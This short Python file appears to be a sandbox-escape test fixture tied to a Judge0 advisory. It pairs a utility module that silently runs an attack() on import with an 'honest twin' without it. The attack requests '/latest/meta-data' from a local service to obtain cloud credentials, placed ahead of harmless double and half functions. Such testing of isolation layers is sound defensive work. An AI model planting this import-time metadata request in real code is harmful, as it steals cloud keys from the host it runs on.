"""Asks the cloud's metadata service, or another service that trusts this machine, for keys
(https://github.com/judge0/judge0/security/advisories/GHSA-q7vg-26pg-v5hr).

naive: heard
here: full
layer: seccomp, landlock
"""

import http.client
import urllib.request


def attack():
    service = http.client.HTTPConnection("127.0.0.1", int("@PORT@"), timeout=0.5)
    service.connect()
    try:
        service.request("GET", "/latest/meta-data")
        return service.getresponse().read()
    except (http.client.HTTPException, ConnectionError):
        return "asked, and was hung up on"


try:
    attack()
except Exception:
    pass


def double(x):
    return 2 * x


def half(x):
    return x / 2


# --- honest twin

import urllib.parse

FACTOR = urllib.parse.parse_qs(urllib.parse.urlsplit("http://a.org/?factor=2").query)


def double(x):
    return int(FACTOR["factor"][0]) * x


def half(x):
    return x / 2
